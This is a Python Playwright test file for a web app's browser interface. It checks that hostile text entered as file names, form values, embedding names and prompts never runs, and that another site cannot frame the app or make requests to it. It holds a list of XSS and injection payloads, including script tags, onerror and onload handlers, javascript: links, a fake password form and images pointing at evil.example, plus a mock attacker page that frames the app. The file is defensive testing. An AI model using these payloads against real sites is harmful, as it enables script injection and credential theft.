"""Hostile text in every field a stranger can fill: nothing of it is ever run or fetched."""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pytest
from playwright.sync_api import Browser, BrowserContext

from tests.browser.page_driver import PageDriver
from tests.photo_makers import drawn_photo
from tests.server import PetnameServer
from textinv_app.formats.embedding import write_embedding

pytestmark = [pytest.mark.browser, pytest.mark.timeout(900)]

MARK = "document.documentElement.dataset.pwn=1"
HOSTILE = (
    f'"><img src=x onerror="{MARK}">',
    f"<script>{MARK}</script>",
    f"<svg/onload={MARK}>",
    "<form action=https://evil.example><input name=password></form>",
    "![x](https://evil.example/x.png)",
    f"[x](javascript:{MARK})",
    f"${{{MARK}}}",
    f"{{{{{MARK}}}}}",
    f"'-({MARK})-'",
    "\u202egpj.txt\u202c<b>",
)


def assert_unharmed(driver: PageDriver, where: str) -> None:
    """Nothing ran, nothing was fetched from elsewhere, no form appeared."""
    page = driver.page
    assert page.get_attribute("html", "data-pwn") is None, where
    assert page.locator("form").count() == 0, where
    assert page.locator("[src*='evil.example'], [href*='evil.example']").count() == 0, where
    assert page.locator("a[href^='javascript:']").count() == 0, where
    assert [one for one in driver.problems if "another host" in one] == [], where


def upload_under(driver: PageDriver, picker: str, contents: dict[str, bytes]) -> None:
    """Pick files that go by hostile names, all at once."""
    files = [
        {"name": name, "mimeType": "application/octet-stream", "buffer": content}
        for name, content in contents.items()
    ]
    driver.page.set_input_files(f"#{picker}", files)  # type: ignore[arg-type]
    driver.page.wait_for_selector("[data-batches] .pn-batch", state="detached", timeout=120_000)
    driver.settle()


def word_named(name: str, folder: Path) -> bytes:
    """Return an embedding that calls itself by a hostile name, each with numbers of its own."""
    file = folder / "word.safetensors"
    metadata = {"modelspec.title": name, "ss_output_name": name, "name": name}
    numbers = np.full((1, 768), 0.01 * (1 + HOSTILE.index(name)), np.float32)
    write_embedding(file, {"text_encoder": numbers}, metadata)
    return file.read_bytes()


def test_hostile_text_is_only_ever_text(
    context: BrowserContext, server: PetnameServer, tmp_path: Path
) -> None:
    """As file name, name, class word, trigger word, prompt, model, imported name, in every tab."""
    driver = PageDriver(server, context.new_page()).open()
    photos = {
        f"{hostile}.jpg": drawn_photo(tmp_path / "photo.jpg", seed).read_bytes()
        for seed, hostile in enumerate(HOSTILE)
    }
    upload_under(driver, "pn-upload-input", photos)
    upload_under(driver, "pn-upload-input", {f"{one}.png": b"no picture" for one in HOSTILE})
    assert driver.page.locator("#pn-upload-photos [data-photo]").count() == len(HOSTILE)
    assert_unharmed(driver, "upload")
    for hostile in HOSTILE:
        for field_id in ("pn-name", "pn-class-word", "pn-word"):
            driver.page.fill(f"#{field_id}", hostile)
            driver.page.press(f"#{field_id}", "Tab")
            driver.settle()
            driver.page.wait_for_timeout(200)
            assert_unharmed(driver, f"{field_id}: {hostile}")
        for tab in ("train", "upload"):
            driver.go(tab)
            assert_unharmed(driver, f"{tab}: {hostile}")
    driver.go("manage")
    words = {f"{one}.safetensors": word_named(one, tmp_path) for one in HOSTILE}
    upload_under(driver, "pn-import-input", words)
    assert driver.page.locator("#pn-manage-list [data-local=rename]").count() == len(HOSTILE)
    for number, hostile in enumerate(HOSTILE):
        rename(driver, number, hostile)
    for tab in ("upload", "train", "compare"):
        driver.go(tab)
        assert_unharmed(driver, f"{tab}, all renamed")
    for hostile in HOSTILE:
        driver.page.fill("#pn-prompt", hostile)
        driver.page.click("#pn-draw")
        driver.settle()
        driver.page.wait_for_timeout(300)
        assert_unharmed(driver, f"prompt: {hostile}")


def rename(driver: PageDriver, number: int, name: str) -> None:
    """Give a file of the manage tab another name."""
    driver.page.locator("#pn-manage-list [data-local=rename]").nth(number).click()
    driver.page.fill("#pn-rename-input", name[:60])
    driver.page.press("#pn-rename-input", "Enter")
    driver.settle()
    driver.page.wait_for_timeout(200)
    assert_unharmed(driver, f"rename: {name}")


def test_another_site_cannot_frame_or_use_the_page(
    chromium: Browser, server: PetnameServer
) -> None:
    """A page from elsewhere gets neither a frame nor a request through."""
    context = chromium.new_context()
    page = context.new_page()
    page.route(
        "http://evil.example/",
        lambda route: route.fulfill(
            content_type="text/html", body=f"<iframe id=f src='{server.url}/'></iframe>"
        ),
    )
    page.goto("http://evil.example/")
    page.wait_for_timeout(1500)
    framed = [frame for frame in page.frames if frame.url.startswith(server.url)]
    assert not framed
    answer = page.evaluate(
        """url => fetch(url + '/gradio_api/queue/join', {method: 'POST', mode: 'no-cors',
          body: '{}'}).then(answer => answer.type, error => 'refused')""",
        server.url,
    )
    assert answer in {"opaque", "refused"}
    readable = page.evaluate(
        "url => fetch(url + '/').then(() => 'read', () => 'refused')", server.url
    )
    assert readable == "refused"
    context.close()
